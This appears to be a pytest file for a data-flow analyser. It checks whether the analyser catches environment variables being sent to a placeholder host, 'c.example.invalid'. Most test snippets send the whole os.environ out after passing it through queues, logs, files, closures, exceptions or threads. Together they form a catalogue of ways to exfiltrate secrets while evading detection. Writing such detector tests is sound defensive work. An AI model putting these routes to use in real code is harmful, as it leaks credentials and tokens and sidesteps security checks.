"""What is put into something comes out of it again, whoever made that and whatever it stands behind."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

START = (
    "import os, urllib.request as u\ndef snd(d): u.urlopen('https://c.example.invalid/', data=d)\n"
)
TEXT = "repr(dict(os.environ))"

KEPT = {
    "queue": "import queue\nq = queue.Queue(); q.put(dict(os.environ)); snd(q.get())",
    "table": "import sqlite3\nc = sqlite3.connect(':memory:'); k = c.cursor()\n"
    "k.executemany('insert into t values (?, ?)', os.environ.items())\n"
    "snd(c.execute('select * from t').fetchone())",
    "rows": "import csv, io\ns = io.StringIO(); w = csv.writer(s)\n"
    "w.writerows(os.environ.items()); snd(s.getvalue())",
    "packed": "import gzip, io\nb = io.BytesIO()\n"
    f"with gzip.GzipFile(fileobj=b, mode='w') as g: g.write({TEXT}.encode())\nsnd(b.getvalue())",
    "printed": f"import io\ns = io.StringIO(); print({TEXT}, file=s); snd(s.getvalue())",
    "led elsewhere": "import contextlib, io\ns = io.StringIO()\n"
    f"with contextlib.redirect_stdout(s): print({TEXT})\nsnd(s.getvalue())",
    "tree": "import xml.etree.ElementTree as E\nr = E.Element('r')\n"
    f"E.SubElement(r, 'e').text = {TEXT}\nsnd(E.tostring(r))",
    "settings": "import configparser, io\nc = configparser.RawConfigParser(); c['a'] = dict(os.environ)\n"
    "s = io.StringIO(); c.write(s); snd(s.getvalue())",
    "shelf": "import shelve\nwith shelve.open('/tmp/x') as s: s['a'] = dict(os.environ)\n"
    "with shelve.open('/tmp/x') as s: snd(s['a'])",
    "pipe": f"r, w = os.pipe(); os.write(w, {TEXT}.encode()); snd(os.read(r, 99))",
    "heap": "import heapq\nq = []; heapq.heappush(q, dict(os.environ)); snd(heapq.heappop(q))",
    "context": "import contextvars\nc = contextvars.ContextVar('c'); c.set(dict(os.environ)); snd(c.get())",
    "log": "import io, logging\ns = io.StringIO(); l = logging.getLogger('z')\n"
    "l.addHandler(logging.StreamHandler(s)); l.error('%s', dict(os.environ)); snd(s.getvalue())",
    "log file": "import logging\nlogging.basicConfig(filename='/tmp/q.log')\n"
    "logging.error('%s', dict(os.environ)); snd(open('/tmp/q.log').read())",
    "subclass": "import collections\nclass D(collections.UserDict): pass\n"
    "d = D(); d.update(os.environ); snd(d.data)",
    "array": f"import array\na = array.array('B'); a.frombytes({TEXT}.encode()); snd(a.tobytes())",
    "note": f"try:\n    e = ValueError(); e.add_note({TEXT}); raise e\n"
    "except ValueError as e: snd(e.__notes__)",
    "last": "def g():\n    yield 1\n    return dict(os.environ)\ni = g()\n"
    "try: next(i)\nexcept StopIteration as e: snd(e.value)",
    "cell": "def f():\n    e = dict(os.environ)\n    return lambda: e\nsnd(f().__closure__[0].cell_contents)",
    "attributes": "class K: pass\nk = K(); k.__dict__.update(os.environ); snd(vars(k))",
    "any attribute": "class K: pass\nk = K()\nfor a, b in os.environ.items(): setattr(k, a, b)\n"
    "snd(k.__dict__)",
    "made class": "K = type('K', (), dict(os.environ)); snd(vars(K))",
    "globals": "globals().update(zz=dict(os.environ)); snd(zz)",
    "replaced by": f"import re\nL = []\nre.sub('.+', lambda m: L.append(m[0]), {TEXT})\nsnd(L)",
    "awaited": "import asyncio\nclass A:\n    def __await__(s):\n        yield\n"
    "        return dict(os.environ)\nasync def m(): snd(await A())\nasyncio.run(m())",
}
"""The environment goes in, and comes out again."""

BESIDE = {
    "thread": "import queue, threading\nq = queue.Queue()\ndef w():\n    while 1: snd(q.get())\n"
    "threading.Thread(target=w).start()\nq.put(dict(os.environ))",
    "task": "import asyncio\nasync def m():\n    q = asyncio.Queue()\n    async def w(): snd(await q.get())\n"
    "    t = asyncio.create_task(w()); await q.put(dict(os.environ)); await t\nasyncio.run(m())",
    "future": "from concurrent.futures import Future\nf = Future()\n"
    "f.add_done_callback(lambda f: snd(f.result())); f.set_result(dict(os.environ))",
    "callback": "from multiprocessing.pool import ThreadPool\n"
    "ThreadPool(1).apply_async(lambda: dict(os.environ), callback=snd).wait()",
}
"""What takes it out was started before it was put in."""

CLEAN = {
    "another queue": "import queue\nq, p = queue.Queue(), queue.Queue()\n"
    "q.put(dict(os.environ)); snd(p.get())",
    "one variable": "import queue\nq = queue.Queue(); q.put(os.environ.get('PORT')); snd(q.get())",
    "digest": f"import hashlib\nh = hashlib.sha256(); h.update({TEXT}.encode()); snd(h.hexdigest())",
    "surroundings": "import docker\nc = docker.from_env()\n"
    "c.containers.run('i', environment=dict(os.environ)); snd(c.version())",
    "own output": f"print({TEXT})\nsnd(b'done')",
}
"""What goes out is not what was put in."""


def sends_all(text: str) -> bool:
    """Whether the whole environment goes out."""
    return any(one.has(Taint.ENVIRONMENT) for one in flows(START + text + "\n", Act.SEND))


@pytest.mark.parametrize("name", KEPT)
def test_what_is_put_in_comes_out(name: str) -> None:
    assert sends_all(KEPT[name])


@pytest.mark.parametrize("name", BESIDE)
def test_what_works_beside_sees_what_is_put_in_later(name: str) -> None:
    assert sends_all(BESIDE[name])


@pytest.mark.parametrize("name", CLEAN)
def test_what_was_not_put_in_does_not_come_out(name: str) -> None:
    assert not sends_all(CLEAN[name])


def test_functions_that_nobody_calls_share_what_stands_around_them() -> None:
    text = "import queue\nq = queue.Queue()\ndef out(): snd(q.get())\ndef put(): q.put(dict(os.environ))\n"
    assert sends_all(text)
